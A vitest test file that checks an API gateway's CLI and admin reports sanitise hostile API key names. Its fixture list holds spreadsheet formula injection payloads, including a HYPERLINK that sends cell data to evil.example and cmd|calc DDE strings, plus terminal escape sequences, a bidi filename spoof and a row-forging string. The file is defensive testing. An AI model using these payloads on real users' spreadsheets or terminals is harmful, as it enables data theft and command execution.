// Key names and metadata in reports (docs: "Admin API, usage and the dashboard", "Commands"): the usage CSV and the
// deprecated-route report (API, CLI, CSV) name each key with its name and metadata, and hostile names cannot act:
// through the built CLI on real Redis, no CSV cell starts a spreadsheet formula under a comma, semicolon, tab or pipe
// separator, no control character reaches the terminal raw (shown as \x1b and the like), and a tab or newline in a
// name cannot forge a row in a plain table. JSON stays exact.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { hashAdminToken } from '../src/admin/tokens.js';
import { assertBuilt, runCli, tempDir } from './helpers/cli.js';
import { testConfig } from './helpers/gateway.js';
import { startLimitsGateway, type LimitsGateway } from './helpers/limits.js';
import { CheckedApi } from './helpers/openapi.js';
import { TestRedis } from './helpers/redis-server.js';
import { TestUpstream } from './helpers/upstream.js';

const PREFIX = 'names:';
const TOKEN = 'tga_report-names-token';
const DEPRECATED = { method: 'GET', path: '/v1/pets/:petId', deprecation: '2026-01-01T00:00:00Z', sunset: '2099-01-01T00:00:00Z' };

// What someone who may name a key (a self-service portal's customer) would try.
const HOSTILE: Array<{ name: string; metadata?: Record<string, string> }> = [
  { name: 'x;=1+1' },
  { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', metadata: { customer: 'c_1', note: '=cmd|"/c calc"!A1' } },
  { name: '@SUM(1+1)*cmd|"/C calc"!A0' },
  { name: "-2+3+cmd|' /C calc'!A0" },
  { name: '+1,=2' },
  { name: '\tTAB' },
  { name: '\r=1+1' },
  { name: 'a|=1+1' },
  { name: 'evil\nkey_forged0000000000\tforged\tmetered\t999999\t0\t0' },
  { name: '\u001b[31mred\u001b[0m\u001b]0;owned title\u0007\u001b[2J', metadata: { team: 'ops\u001b[1m;=1+1\u009b\u202e' } },
  { name: 'c1 \u009b31m csi\u0085nel\u007fdel\u0000nul' },
  { name: 'invoice\u202egpj.exe' },
  { name: 'plain customer', metadata: { customer: 'c_42', 'billing.email': 'ap@example.com' } },
];

const FORMULA_START = /^[=+\-@\t\r\n]/;
// Any control character a terminal acts on (C0 but the table's own tab and newline, DEL, C1) or a bidi override.
// eslint-disable-next-line no-control-regex -- the control characters are what is looked for
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
// The same less CR: a CSV field keeps tab, CR and LF, quoted.
// eslint-disable-next-line no-control-regex -- the control characters are what is looked for
const RAW_CONTROL_IN_CSV = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let redis: TestRedis;
let up: TestUpstream;
let gw: LimitsGateway;
let dir: ReturnType<typeof tempDir>;
let file: string;
const ids: string[] = [];
const api = new CheckedApi({ target: () => gw.gateway.adminApp!, token: TOKEN });

beforeAll(async () => {
  assertBuilt();
  redis = await TestRedis.start();
  up = await TestUpstream.start();
  const routes = [DEPRECATED];
  const plans = { metered: { perMinute: 1000, perDay: 100_000 } };
  gw = await startLimitsGateway(
    testConfig({
      server: { host: '127.0.0.1', port: 0 },
      upstream: { url: up.url },
      redis: { url: redis.url, prefix: PREFIX, commandTimeoutMs: 2000 },
      admin: { port: 0, tokens: [{ id: 'billing', sha256: hashAdminToken(TOKEN) }] },
      plans,
      usage: { retentionDays: 2, flushIntervalMs: 60_000 },
      routes,
    }),
  );
  for (const h of HOSTILE) {
    const { key, record } = await gw.gateway.admin.issuer.create({ plan: 'metered', name: h.name, ...(h.metadata ? { metadata: h.metadata } : {}) });
    ids.push(record.id);
    const res = await fetch(`${gw.url}/v1/pets/1`, { headers: { authorization: `Bearer ${key}` }, signal: AbortSignal.timeout(10_000) });
    await res.arrayBuffer();
    expect(res.status).toBe(200);
  }
  await gw.gateway.flushUsage();
  dir = tempDir();
  file = dir.write('gateway.yaml', { upstream: { url: up.url }, redis: { url: redis.url, prefix: PREFIX }, plans, routes });
}, 60_000);

afterAll(async () => {
  dir?.remove();
  await gw?.close();
  await up?.close();
  await redis?.stop();
});

async function cli(...args: string[]): Promise<string> {
  const r = await runCli([...args, '--config', file]);
  expect(r.code, r.stderr).toBe(0);
  return r.stdout;
}

/** The CSV as a spreadsheet that honours quotes splits it, with this separator. */
function cells(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, relax_column_count: true, relax_quotes: true, record_delimiter: '\r\n' }) as string[][];
}

function expectNoFormulaCell(text: string): void {
  for (const delimiter of [',', ';', '\t', '|'])
    for (const row of cells(text, delimiter))
      for (const cell of row) expect(cell, `separator ${JSON.stringify(delimiter)}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
}

/** A field as stored, from the cell: less the ' guards Tollgate put where a cell could start with a formula. */
const unguarded = (cell: string): string => cell.replace(/(^|[,;\t\r\n|])'(?=[ \t"]*[=+\-@]|[\t\r\n])/g, '$1');

describe('hostile key names', () => {
  it('tollgate usage --csv: one row per key, name and metadata columns, no cell starts a formula under any separator', async () => {
    const text = await cli('usage', '--csv', '--sort', 'id');
    expectNoFormulaCell(text);
    const rows = cells(text, ',');
    expect(rows[0]).toEqual([
      'id',
      'name',
      'plan',
      'admitted',
      'rate_limited',
      'banned',
      'upstream_failed',
      'shadow_refused',
      'would_ban',
      'validation_failed',
      'consumer',
      'metadata',
    ]);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows.slice(1)) expect(row).toHaveLength(12);
    for (const [i, h] of HOSTILE.entries()) {
      const row = rows.find((r) => r[0] === ids[i])!;
      expect(row[3]).toBe('1');
      expect(row[10]).toBe('');
      expect(row[11] === '' ? undefined : JSON.parse(row[11]!)).toEqual(h.metadata);
      // A name without control characters reads back exactly (less the formula guard).
      if (!RAW_CONTROL.test(h.name)) expect(unguarded(row[1]!)).toBe(h.name);
      expect(row[1]).not.toMatch(RAW_CONTROL_IN_CSV);
    }
    expect(rows.find((r) => r[0] === ids[0])![1]).toBe("x;'=1+1");
    expect(text).toContain(`${ids[0]},"x;'=1+1",metered`);
    expect(rows.find((r) => r[0] === ids[9])![1]).toBe('\\x1b[31mred\\x1b[0m\\x1b]0;owned title\\x07\\x1b[2J');
  });

  it('tollgate routes deprecated --csv: each caller with key_name and key_metadata, sanitised the same way', async () => {
    const text = await cli('routes', 'deprecated', '--csv');
    expectNoFormulaCell(text);
    const rows = cells(text, ',');
    expect(rows[0]).toEqual(['method', 'path', 'deprecation', 'sunset', 'key_id', 'calls', 'last_seen', 'key_name', 'key_metadata', 'consumer']);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const [i, h] of HOSTILE.entries()) {
      const row = rows.find((r) => r[4] === ids[i])!;
      expect(row).toHaveLength(10);
      expect(row[5]).toBe('1');
      if (!RAW_CONTROL.test(h.name)) expect(unguarded(row[7]!)).toBe(h.name);
      expect(row[8] === '' ? undefined : JSON.parse(row[8]!)).toEqual(h.metadata);
    }
  });

  it('plain tables (usage, routes deprecated, keys list, keys show): no raw control character, one line per key', async () => {
    for (const [args, lines] of [
      [['usage'], HOSTILE.length + 1],
      [['routes', 'deprecated'], HOSTILE.length + 1],
      [['keys', 'list'], HOSTILE.length + 1],
    ] as const) {
      const text = await cli(...args);
      expect(text, args.join(' ')).not.toMatch(RAW_CONTROL);
      const out = text.trimEnd().split('\n');
      expect(out, args.join(' ')).toHaveLength(lines);
      // Every key on exactly one line: its id appears once, and no line starts with a forged id.
      for (const id of ids)
        expect(
          out.filter((l) => l.includes(id)),
          `${args.join(' ')} ${id}`,
        ).toHaveLength(1);
      expect(out.filter((l) => l.startsWith('key_forged'))).toEqual([]);
    }
    // Only the last line break taken off: a row's last cell (its consumer) is empty here.
    const usage = (await cli('usage')).replace(/\n$/, '').split('\n');
    for (const line of usage) expect(line.split('\t')).toHaveLength(11);
    expect(usage.find((l) => l.startsWith(ids[8]!))).toContain('evil\\nkey_forged0000000000\\tforged\\tmetered\\t999999\\t0\\t0');
    expect(usage.find((l) => l.startsWith(ids[9]!))).toContain('\\x1b[31mred\\x1b[0m\\x1b]0;owned title\\x07\\x1b[2J');
    expect(usage.find((l) => l.startsWith(ids[10]!))).toContain('c1 \\x9b31m csi\\x85nel\\x7fdel\\x00nul');
    expect(usage.find((l) => l.startsWith(ids[11]!))).toContain('invoice\\u202egpj.exe');
    const show = await cli('keys', 'show', ids[9]!);
    expect(show).not.toMatch(RAW_CONTROL);
    expect(show).toContain('\\x1b[31mred');
  });

  it('--json stays exact (the same names and metadata parse back) and sends no raw control character', async () => {
    for (const args of [
      ['usage', '--json'],
      ['routes', 'deprecated', '--json'],
      ['keys', 'list', '--json'],
      ['keys', 'show', ids[10]!, '--json'],
    ]) {
      const text = await cli(...args);
      expect(text, args.join(' ')).not.toMatch(RAW_CONTROL);
      expect(text.trimEnd().split('\n'), args.join(' ')).toHaveLength(1);
    }
    const usage = JSON.parse(await cli('usage', '--json')) as { keys: Array<{ id: string; name?: string; metadata?: Record<string, string> }> };
    const routes = JSON.parse(await cli('routes', 'deprecated', '--json')) as {
      routes: Array<{ keys: Array<{ id: string; name?: string; metadata?: unknown }> }>;
    };
    for (const [i, h] of HOSTILE.entries()) {
      expect(usage.keys.find((k) => k.id === ids[i])).toMatchObject({ name: h.name, ...(h.metadata ? { metadata: h.metadata } : {}) });
      const caller = routes.routes[0]!.keys.find((k) => k.id === ids[i])!;
      expect(caller.name).toBe(h.name);
      expect(caller.metadata).toEqual(h.metadata);
    }
  }, 60_000);

  it('GET /routes/deprecated and GET /usage name each key with its metadata; answers match the OpenAPI document', async () => {
    const get = async (path: string) => {
      const res = await api.get(path);
      expect(res.status, res.text).toBe(200);
      return res;
    };
    const deprecated = await get('/routes/deprecated');
    const callers = deprecated.body.routes[0].keys as Array<{ id: string; name: string; metadata?: Record<string, string> }>;
    expect(callers).toHaveLength(HOSTILE.length);
    for (const [i, h] of HOSTILE.entries())
      expect(callers.find((k) => k.id === ids[i])).toEqual({
        id: ids[i],
        name: h.name,
        ...(h.metadata ? { metadata: h.metadata } : {}),
        consumer: null,
        calls: 1,
        lastSeen: expect.any(String),
      });
    const usage = await get('/usage?limit=1000');
    expect(usage.body.keys.find((k: { id: string }) => k.id === ids[12])).toMatchObject({ name: 'plain customer', metadata: HOSTILE[12]!.metadata });
    const csv = await get('/routes/deprecated.csv');
    expectNoFormulaCell(csv.text);
    expect(cells(csv.text, ',')[0]).toEqual([
      'method',
      'path',
      'deprecation',
      'sunset',
      'key_id',
      'calls',
      'last_seen',
      'key_name',
      'key_metadata',
      'consumer',
    ]);
    expect(api.problems).toEqual([]);
  });
});
